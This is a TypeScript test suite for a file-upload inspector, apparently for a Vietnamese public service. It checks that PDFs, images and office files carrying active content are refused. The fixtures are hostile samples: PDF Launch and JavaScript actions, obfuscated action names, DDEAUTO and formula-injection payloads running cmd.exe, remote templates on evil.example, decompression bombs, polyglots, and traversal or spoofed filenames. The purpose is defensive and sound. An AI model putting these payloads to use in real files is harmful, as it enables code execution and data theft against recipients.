import { spawnSync } from 'node:child_process'
import { mkdtempSync, writeFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { crc32, deflateRawSync, deflateSync } from 'node:zlib'
import { PDFDocument } from 'pdf-lib'
import { describe, expect, test } from 'vitest'
import { fileName } from '#server/platform/files/file-name.ts'
import { aJpeg, anOfficeFile, aPdf, aPng, aZip } from '#server/platform/files/fixtures.ts'
import { aPackedPdf } from '#server/platform/reading/fixtures.ts'
import { inspectFile } from './inspect.ts'

const folder = mkdtempSync(join(tmpdir(), 'nhip-inspect-'))
let count = 0

function inspect(bytes: Buffer): Promise<string> {
  count += 1
  const path = join(folder, String(count))
  writeFileSync(path, bytes)
  return inspectFile({ path, size: bytes.length })
}

const refusal = (code: string) => expect.objectContaining({ code: `files.${code}` })
const latin1 = (text: string) => Buffer.from(text, 'latin1')

/** The same document whose cross-reference stream does not say that it is one, which some readers do not ask. */
function untyped(pdf: Buffer): Buffer {
  return latin1(pdf.toString('latin1').replace('/Type /XRef', '/Type /Xxxx'))
}

/** The same document saved once more, with its fifth object replaced. */
function revised(pdf: Buffer): Buffer {
  const text = pdf.toString('latin1')
  const before = /startxref\n(\d+)/.exec(text)?.[1]
  const at = text.length
  const object = '5 0 obj\n<< >>\nendobj\n'
  const size = /\/Size (\d+)/.exec(text)?.[1]
  const table = `xref\n5 1\n${String(at).padStart(10, '0')} 00000 n \ntrailer\n<< /Size ${size} /Root 1 0 R /Prev ${before} >>\n`
  return latin1(`${text}${object}${table}startxref\n${at + object.length}\n%%EOF\n`)
}

/** The same document with a table for old readers; its cross-reference stream is for those who know such. */
function hybrid(pdf: Buffer): Buffer {
  const text = pdf.toString('latin1')
  const stream = /startxref\n(\d+)/.exec(text)?.[1]
  const rows = [1, 2, 3].map(
    (number) => `${String(text.indexOf(`${number} 0 obj`)).padStart(10, '0')} 00000 n \n`,
  )
  const size = /\/Size (\d+)/.exec(text)?.[1]
  const table = `xref\n0 1\n0000000000 65535 f \n1 3\n${rows.join('')}trailer\n<< /Size ${size} /Root 1 0 R /XRefStm ${stream} >>\n`
  return latin1(`${text}${table}startxref\n${text.length}\n%%EOF\n`)
}

describe('what is accepted', () => {
  test('a PDF made by a library, with and without object streams', async () => {
    const document = await PDFDocument.create()
    document.addPage().drawText('Giay khai sinh')
    for (const useObjectStreams of [true, false]) {
      const bytes = Buffer.from(await document.save({ useObjectStreams }))
      expect(await inspect(bytes)).toBe('application/pdf')
    }
  })

  test('JPEG, PNG, DOCX and XLSX', async () => {
    expect(await inspect(aJpeg())).toBe('image/jpeg')
    expect(await inspect(aPng())).toBe('image/png')
    expect(await inspect(anOfficeFile('word/document.xml'))).toContain('wordprocessingml')
    expect(await inspect(anOfficeFile('xl/workbook.xml'))).toContain('spreadsheetml')
  })
})

describe('what is refused', () => {
  test('nothing at all', async () => {
    await expect(inspect(Buffer.alloc(0))).rejects.toEqual(refusal('empty'))
  })

  test.each([
    [
      'a Windows program that calls itself a PDF further on',
      latin1(`MZ\x90\0${'\0'.repeat(60)}%PDF-1.7\n%%EOF`),
      'program',
    ],
    ['a Linux program', latin1(`\x7fELF${'\0'.repeat(60)}`), 'program'],
    ['a script', latin1('#!/bin/sh\nrm -rf /\n'), 'program'],
    ['a web page', latin1('<!DOCTYPE html><script>alert(1)</script>'), 'web_page'],
    ['a drawing with script', latin1('<?xml version="1.0"?><svg onload="alert(1)"/>'), 'web_page'],
    ['a web page in UTF-16', Buffer.from('\ufeff<html><body>', 'utf16le'), 'web_page'],
    ['a photo of an iPhone', latin1(`\0\0\0\x18ftypheic\0\0\0\0mif1heic`), 'heic'],
    [
      'a Word file of before 2007',
      latin1('\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1'.padEnd(600, '\0')),
      'old_office',
    ],
    ['a RAR archive', latin1('Rar!\x1a\x07\x01\0'), 'archive'],
    ['plain text', latin1('Kinh gui Uy ban nhan dan'), 'type_not_accepted'],
    ['a picture saved from a chat as .png', latin1('RIFF\x24\0\0\0WEBPVP8 '), 'other_picture'],
    ['a GIF', latin1('GIF89a\x01\0\x01\0'), 'other_picture'],
    ['a fax as TIFF', latin1('II*\0\x08\0\0\0'), 'other_picture'],
    // Neither is followed: a directory that leads to itself, and one of 65,535 entries of four gigabytes each.
    [
      'a TIFF that goes in circles',
      latin1(`II*\0\x08\0\0\0${'\0\0\x08\0\0\0'.repeat(50_000)}`),
      'other_picture',
    ],
    [
      'a TIFF with a giant directory',
      latin1(`MM\0*\0\0\0\x08${'\xff'.repeat(12 * 65_536)}`),
      'other_picture',
    ],
    ['a picture of a newer phone', latin1('\0\0\0\x1cftypavif\0\0\0\0'), 'other_picture'],
    ['a film', latin1('\0\0\0\x18ftypmp42\0\0\0\0'), 'film_or_sound'],
    ['a voice message', latin1('#!AMR\n'), 'film_or_sound'],
  ])('%s', async (_, bytes, code) => {
    await expect(inspect(bytes)).rejects.toEqual(refusal(code))
  })

  test('a PDF that starts a program, runs a script or carries files, however the name is spelled', async () => {
    for (const action of [
      '<< /S /Launch /F (cmd.exe) >>',
      '<< /S /JavaScript /JS (app.alert(1)) >>',
      '<< /Type /Annot /Subtype /FileAttachment /FS << /Type /Filespec /F (a.exe) /EF << /F 9 0 R >> >> >>',
      '<< /Type /Filespec /F (a.exe) /EF << /F 9 0 R >> >>',
      '<< /Type /3D /Subtype /U3D /OnInstantiate 9 0 R >>',
      '<< /S /SubmitForm /F (http://evil.example) >>',
      '<< /S /J#61va#53cript /JS (app.alert(1)) >>',
      '<< /Type /EmbeddedFile >>',
      '<< /S/GoToE/F(x.pdf) >>',
    ]) {
      await expect(inspect(aPdf([action])), action).rejects.toEqual(refusal('active_pdf'))
    }
    expect(await inspect(aPdf(['<< /S /URI /URI (https://hue.gov.vn) >>']))).toBe('application/pdf')
  })

  test.each([
    ['opens a page of the web', '<< /OpenAction << /S /URI /URI (http://evil.example) >> >>'],
    [
      'opens one after showing a page',
      '<< /OpenAction << /S /GoTo /D [3 0 R /Fit] /Next [<< /S /URI /URI (http://evil.example) >>] >> >>',
    ],
    ['opens one by an object of its own', '<< /OpenAction 5 0 R >>'],
    ['acts when a page is shown', '<< /AA << /O << /S /URI /URI (http://evil.example) >> >> >>'],
    ['acts by an object of its own', '<< /A#41 %\n5 0 R >>'],
    ['opens a file on another machine', '<< /S /GoToR /F (//evil.example/a) /D [0 /Fit] >>'],
    ['reads an article of one', '<< /OpenAction << /S /Thread /F (//evil.example/a) /D 0 >> >>'],
    ['plays a film', '<< /Subtype /Movie /Movie << /F (http://evil.example/a.avi) >> >>'],
    ['plays a sound', '<< /Subtype /Sound /Sound 5 0 R >>'],
    ['shows a model', '<< /Type /3D /Subtype /U3D >>'],
    ['takes data from elsewhere', '<< /F (//evil.example/a) /Length 0 >>\nstream\n\nendstream'],
    ['takes them by an address', '<< /F << /FS /URL /F (http://a) >> /Length 0 >>\nstream\n\nendstream'],
    ['shows a page of another file', '<< /Ref << /F (//e/a) /Page 0 >> /Length 0 >>\nstream\n\nendstream'],
    ['spells a name with a zero behind it', '<< /S /JavaScript#00 /JS (app.alert(1)) >>'],
    ['hides it before more', `<< /S /JavaScript#00${'x'.repeat(99)} /JS (app.alert(1)) >>`],
  ])('a PDF that %s', async (_, object) => {
    const file = aPdf([object, '<< /S /URI /URI (http://evil.example) >>'])
    await expect(inspect(file)).rejects.toEqual(refusal('active_pdf'))
    // A damaged file is looked at as it is repaired.
    const damaged = latin1(file.toString('latin1').replace(/startxref\n\d+/, 'startxref\n7'))
    await expect(inspect(damaged)).rejects.toEqual(refusal('active_pdf'))
  })

  test('a PDF with packed forms of a number with a sign', async () => {
    const packed = aPackedPdf([
      { number: 5, source: '[3 0 R /Fit]' },
      { number: 6, source: '<< /Fields [] /XFA +4 0 R >>' },
    ])
    await expect(inspect(packed)).rejects.toEqual(refusal('active_pdf'))
  })

  test('not a PDF that shows a page when it is opened, or waits for a click', async () => {
    for (const object of [
      '<< /OpenAction [3 0 R /XYZ null null 0] >>',
      '<< /OpenAction << /S /GoTo /D [3 0 R /Fit] /Next << /S /Named /N /LastPage >> >> >>',
      '<< /Type /Annot /Subtype /Link /A << /S /URI /URI (https://hue.gov.vn) >> >>',
      '<< /F /FlateDecode /Length 0 >>\nstream\n\nendstream',
    ]) {
      expect(await inspect(aPdf([object])), object).toBe('application/pdf')
    }
  })

  test('a PDF that hides the action in an object stream, also at a seam between two windows', async () => {
    const hidden = deflateSync(latin1('1 0 << /S /JavaScript /JS (app.alert(1)) >>'))
    const packed = Buffer.concat([
      latin1(`<< /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /Length ${hidden.length} >>\nstream\n`),
      hidden,
      latin1('\nendstream'),
    ]).toString('latin1')
    await expect(inspect(aPdf([packed]))).rejects.toEqual(refusal('active_pdf'))
    for (const shift of [10, 40, 70, 100]) {
      const filler = `(${'x'.repeat(256 * 1024 - shift)})`
      await expect(inspect(aPdf([filler, packed])), String(shift)).rejects.toEqual(refusal('active_pdf'))
    }
  })

  test('a PDF whose object streams cannot be looked into or unpack without end', async () => {
    const stream = (dictionary: string, data: Buffer) =>
      `${dictionary}\nstream\n${data.toString('latin1')}\nendstream`
    const hex = latin1(deflateSync(latin1('1 0 << /S /JavaScript >>')).toString('hex'))
    await expect(inspect(aPdf([stream('<< /Type /ObjStm /Filter /ASCIIHexDecode >>', hex)]))).rejects.toEqual(
      refusal('unreadable'),
    )
    const bomb = deflateSync(Buffer.alloc(64 * 1024 * 1024, 0x20))
    await expect(
      inspect(aPdf([stream(`<< /Type /ObjStm /Filter /FlateDecode /Length ${bomb.length} >>`, bomb)])),
    ).rejects.toEqual(refusal('unpacks_too_large'))
  })

  describe('a PDF whose object stream only following the cross-references shows', () => {
    const action = { number: 5, source: '<< /S /JavaScript /JS (app.alert(1)) >>' }
    const harmless = { number: 5, source: '<< /S /GoTo /D [3 0 R /Fit] >>' }
    const cases: [string, (packed: typeof action) => Buffer][] = [
      ['without a type', (packed) => aPackedPdf([packed], { dictionary: '' })],
      ['with another type', (packed) => aPackedPdf([packed], { dictionary: '/Type /XObject' })],
      ['behind references without a type', (packed) => untyped(aPackedPdf([packed], { dictionary: '' }))],
      ['in an older revision', (packed) => revised(aPackedPdf([packed], { dictionary: '' }))],
      ['of a hybrid file', (packed) => hybrid(aPackedPdf([packed], { dictionary: '' }))],
    ]
    test.each(cases)('%s', async (_, make) => {
      await expect(inspect(make(action))).rejects.toEqual(refusal('active_pdf'))
      expect(await inspect(make(harmless))).toBe('application/pdf')
    })

    test('with a type elsewhere', async () => {
      const bytes = aPackedPdf([action], { dictionary: '/Type 6 0 R' }, ['/ObjStm'])
      await expect(inspect(bytes)).rejects.toEqual(refusal('active_pdf'))
    })

    test.skipIf(spawnSync('qpdf', ['--version']).error)('which is where qpdf finds the script', () => {
      for (const [name, make] of cases.filter(([name]) => !/older|references/.test(name))) {
        const path = join(folder, `qpdf-${name}.pdf`)
        writeFileSync(path, make(action))
        const { stdout } = spawnSync('qpdf', ['--qdf', '--object-streams=disable', path, '-'])
        expect(stdout.toString('latin1'), name).toContain('/JavaScript')
      }
    })
  })

  test('a PDF that readers would repair, where objects may be packed in it', async () => {
    const packed = aPackedPdf([{ number: 5, source: '<< >>' }]).toString('latin1')
    for (const broken of [
      packed.replace(/startxref\n\d+/, 'startxref\n7'),
      packed.replace('4 0 obj', '8 0 obj'),
      packed
        .replace('/Type /XRef', '')
        .replace('/Type /ObjStm', '')
        .replace('%%EOF', '%%EOF\nstartxref\n3\n%%EOF'),
      packed.replace('/Kids [3 0 R]', '/Kids [4 0 R]'),
      // A stream of cross-references nobody follows until the file is repaired.
      `${aPdf([]).toString('latin1').slice(0, -6)}\n9 0 obj << /Type /XRef >> endobj\n%%EOF\n`,
    ]) {
      await expect(inspect(latin1(broken)), broken.slice(-80)).rejects.toEqual(refusal('unreadable'))
    }
    // Without packed objects every byte of it has been looked at.
    const plain = aPdf([])
      .toString('latin1')
      .replace(/startxref\n\d+/, 'startxref\n7')
    expect(await inspect(latin1(plain))).toBe('application/pdf')
  })

  test('a PDF that is locked, breaks off or has an archive behind its pages', async () => {
    await expect(inspect(aPdf([], '/Encrypt 9 0 R'))).rejects.toEqual(refusal('encrypted'))
    await expect(inspect(aPdf([]).subarray(0, 60))).rejects.toEqual(refusal('unreadable'))
    const polyglot = Buffer.concat([aPdf([]), aZip([{ name: 'a.js', data: latin1('1') }], '%%EOF')])
    await expect(inspect(polyglot)).rejects.toEqual(refusal('unreadable'))
  })

  test('a picture with an archive behind it, or shown in thousands of scans', async () => {
    const archive = aZip([{ name: 'a.js', data: latin1('1') }])
    for (const picture of [aPng(), aJpeg()]) {
      await expect(inspect(Buffer.concat([picture, archive]))).rejects.toEqual(refusal('unreadable'))
      // Cameras put films and small pictures there.
      expect(await inspect(Buffer.concat([picture, latin1('\0\0\0\x18ftypmp42')]))).toMatch(/^image/)
    }
    const scans = (count: number) => {
      const [head, scan] = [aJpeg().subarray(0, 33), aJpeg().subarray(33, -2)]
      return Buffer.concat([head, ...Array.from({ length: count }, () => scan), latin1('\xff\xd9')])
    }
    expect(await inspect(scans(12))).toBe('image/jpeg')
    await expect(inspect(scans(40_000))).rejects.toEqual(refusal('unpacks_too_large'))
  })

  test('a picture of impossible size or without an end', async () => {
    await expect(inspect(aPng(60_000, 60_000))).rejects.toEqual(refusal('image_too_large'))
    await expect(inspect(aJpeg(20_000, 20_000))).rejects.toEqual(refusal('image_too_large'))
    // Two sizes, of which another reader takes the other: a second frame, and a marker one of them skips.
    const [small, vast] = [aJpeg(16, 16), aJpeg(60_000, 60_000)]
    for (const two of [
      [small.subarray(0, 33), vast.subarray(20)],
      [small.subarray(0, 2), Buffer.from([0xff, 0x01]), vast.subarray(20, 33), small.subarray(2)],
    ])
      await expect(inspect(Buffer.concat(two))).rejects.toEqual(refusal('unreadable'))
    await expect(inspect(aPng().subarray(0, 40))).rejects.toEqual(refusal('unreadable'))
    await expect(inspect(aJpeg().subarray(0, 20))).rejects.toEqual(refusal('unreadable'))
  })

  test('an archive that is no office file, one with macros, one with a password', async () => {
    await expect(inspect(aZip([{ name: 'a.txt', data: latin1('a') }]))).rejects.toEqual(refusal('archive'))
    await expect(
      inspect(anOfficeFile('word/document.xml', [{ name: 'word/vbaProject.bin', data: latin1('a') }])),
    ).rejects.toEqual(refusal('macros'))
    await expect(
      inspect(anOfficeFile('word/document.xml', [{ name: 'word/a.xml', data: latin1('a'), flags: 1 }])),
    ).rejects.toEqual(refusal('encrypted'))
  })

  test.each([
    [
      'a type spelt with numbers',
      'word/document.xml',
      '[Content_Types].xml',
      '<Types a="&#109;acroEnabled"/>',
    ],
    [
      'a related project of another name',
      'word/document.xml',
      'word/_rels/document.xml.rels',
      '<Relationship Type="http://x/vbaProject" Target="foo.xml"/>',
    ],
    ['sheets of macros', 'xl/workbook.xml', 'xl/macrosheets/sheet1.xml', '<x/>'],
    [
      'a template from elsewhere',
      'word/document.xml',
      'word/_rels/settings.xml.rels',
      '<Relationship Type="http://x/attachedTemplate" Target="http://evil.example/x.dotm" TargetMode="External"/>',
    ],
    [
      'a template from elsewhere under a prefix',
      'word/document.xml',
      'word/_rels/settings.xml.rels',
      '<p:Relationship Type="http://x/attachedTemplate" Target="http://evil.example/x.dotm" TargetMode="External"/>',
    ],
    ...[
      'file:///\\\\evil.example\\s\\x.dotm',
      'file:////evil.example/s/x.dotm',
      '\\\\evil.example\\x.dotm',
    ].map((target): [string, string, string, string] => [
      `a template at ${target}`,
      'word/document.xml',
      'word/_rels/settings.xml.rels',
      `<Relationship Type="http://x/attachedTemplate" Target="${target}" TargetMode="External"/>`,
    ]),
    [
      'a template with two targets',
      'word/document.xml',
      'word/_rels/settings.xml.rels',
      '<Relationship a:Target="file:///C:/x" Type="http://x/attachedTemplate" Target="http://evil.example/x"/>',
    ],
    [
      'a picture that is fetched',
      'word/document.xml',
      'word/_rels/document.xml.rels',
      '<Relationship Type="http://x/image" Target="//evil.example/x.png" TargetMode="External"/>',
    ],
    ...['aFChunk', 'control', 'mailMergeSource', 'connections'].map(
      (kind): [string, string, string, string] => [
        `a relation to ${kind}`,
        'word/document.xml',
        'word/_rels/document.xml.rels',
        `<Relationship Type="http://x/${kind}" Target="x.xml"/>`,
      ],
    ),
    ...[
      '<w:instrText> DDEAUTO c:\\\\cmd.exe "/k calc"</w:instrText>',
      '<w:r><w:instrText>DD</w:instrText></w:r><w:r><w:instrText xml:space="preserve">EAUTO cmd</w:instrText></w:r>',
      '<w:fldSimple w:dirty="true" w:instr=" dde cmd"/>',
      '<w:fldSimple w:x=">" w:instr="DDE&#65;UTO cmd"/>',
      '<w:instrText>DD<w:x/>EAUTO cmd</w:instrText>',
      '<w:instrText>DD<!-- -->EAUTO cmd</w:instrText>',
      '<w:instrText><![CDATA[DDEAUTO cmd]]></w:instrText>',
      '<w:instrText>QUOTE 68 68 69</w:instrText>',
      '<w:instrText> LINK Excel.Sheet.12 "//evil.example/a.xlsx"</w:instrText>',
      '<!DOCTYPE a [<!ENTITY a "aaaa">]>',
    ].map((inside): [string, string, string, string] => [
      inside,
      'word/document.xml',
      'word/header1.xml',
      `<w:hdr xmlns:w="x">${inside}</w:hdr>`,
    ]),
    ...[
      "cmd|'/c calc'!A0",
      '_xlfn.WEBSERVICE("http://x")',
      'DDE("a";"b";"c")',
      '\'a"\'!A1&amp;CALL("x")',
    ].map((formula): [string, string, string, string] => [
      `the formula ${formula}`,
      'xl/workbook.xml',
      'xl/worksheets/sheet1.xml',
      `<worksheet><c><f t="shared">${formula}</f></c></worksheet>`,
    ]),
    ['a source of data', 'xl/workbook.xml', 'xl/connections.xml', '<connections/>'],
    ['an embedded object', 'word/document.xml', 'word/embeddings/oleObject1.bin', 'MZ'],
    ['any other program', 'word/document.xml', 'word/foo.bin', 'MZ'],
  ])('an office file with %s', async (_, main, name, data) => {
    const parts = { '[Content_Types].xml': '<Types/>', [main]: '<document/>', [name]: data }
    const file = aZip(Object.entries(parts).map(([name, data]) => ({ name, data: Buffer.from(data) })))
    await expect(inspect(file)).rejects.toMatchObject({ code: 'files.macros' })
  })

  test('an office file whose lists some readers take for others', async () => {
    const listing = 'word/_rels/document.xml.rels'
    const pieces: [string, Buffer][] = [
      ['[content_types].xml', latin1('<Types/>')],
      [listing, latin1('<?xml version="1.0" encoding="UTF-7"?>+ADw-Relationship +AD4-')],
      // `<?xml` of EBCDIC.
      [listing, Buffer.from([0x4c, 0x6f, 0xa7, 0x94, 0x93, 0x40])],
    ]
    for (const [name, data] of pieces) {
      await expect(inspect(anOfficeFile('word/document.xml', [{ name, data }]))).rejects.toEqual(
        refusal('unreadable'),
      )
    }
  })

  test('not an office file with links to click, numbers of pages and sums', async () => {
    const link = '<Relationship Type="http://x/hyperlink" Target="https://hue.gov.vn" TargetMode="External"/>'
    const fields =
      '<w:fldChar/><w:instrText> PAGE </w:instrText><w:fldChar/><w:instrText>HYPERLINK "https://hue.gov.vn"</w:instrText>'
    const sum = `<worksheet><f>SUM(A1:A9)&amp;" a|b "&amp;'Thu|chi'!A1</f></worksheet>`
    const parts = [
      { name: 'word/_rels/document.xml.rels', data: latin1(link) },
      {
        name: 'word/footer1.xml',
        data: latin1(`\xef\xbb\xbf<?xml version="1.0" encoding="UTF-8"?>\r\n${fields}`),
      },
      { name: 'word/footer2.xml', data: Buffer.from(`\ufeff<w:ftr>${fields}</w:ftr>`, 'utf16le') },
      { name: 'customXml/item1.xml', data: latin1('<?mso-x?><a><!-- b --><![CDATA[c]]></a>') },
    ]
    expect(await inspect(anOfficeFile('word/document.xml', parts))).toContain('wordprocessingml')
    const sheet = { name: 'xl/worksheets/sheet1.xml', data: latin1(sum) }
    expect(await inspect(anOfficeFile('xl/workbook.xml', [sheet]))).toContain('spreadsheetml')
  })

  test('an office file that unpacks to far more than it is', async () => {
    const zeros = Buffer.alloc(40 * 1024 * 1024)
    await expect(
      inspect(anOfficeFile('word/document.xml', [{ name: 'word/bomb.xml', data: zeros }])),
    ).rejects.toEqual(refusal('unpacks_too_large'))
    // The directory says one byte, the data says otherwise.
    await expect(
      inspect(anOfficeFile('word/document.xml', [{ name: 'word/lie.xml', data: zeros, declared: 1 }])),
    ).rejects.toEqual(refusal('unreadable'))
    // Thousands of small entries, and entries that share their bytes.
    const many = Array.from({ length: 2_100 }, (_, index) => ({
      name: `word/${index}.xml`,
      data: latin1('a'),
    }))
    await expect(inspect(anOfficeFile('word/document.xml', many))).rejects.toEqual(
      refusal('unpacks_too_large'),
    )
    const kernel = deflateRawSync(Buffer.from(Array.from({ length: 60_000 }, (_, i) => (i * 7919) % 251)))
    const shared = Array.from({ length: 200 }, (_, index) => ({
      name: `word/${index}.xml`,
      packed: kernel,
      crc: crc32(Buffer.alloc(0)),
      declared: 60_000,
      shared: true,
      data: Buffer.alloc(0),
    }))
    await expect(inspect(anOfficeFile('word/document.xml', shared))).rejects.toEqual(
      refusal('unpacks_too_large'),
    )
  })
})

test('a name is made safe and gets the ending of its content', () => {
  expect(fileName('C:\\Users\\lan\\Giấy khai sinh.PDF', 'application/pdf')).toBe('Giấy khai sinh.pdf')
  expect(fileName('../../etc/passwd', 'image/png')).toBe('passwd.png')
  expect(fileName('anh\u202egpj.exe', 'image/jpeg')).toBe('anhgpj.jpg')
  expect(fileName('a\r\nSet-Cookie: b.pdf', 'application/pdf')).toBe('a Set-Cookie_ b.pdf')
  expect(fileName('', 'application/pdf')).toBe('tep.pdf')
  expect(fileName('.htaccess', 'image/jpeg')).toBe('htaccess.jpg')
})
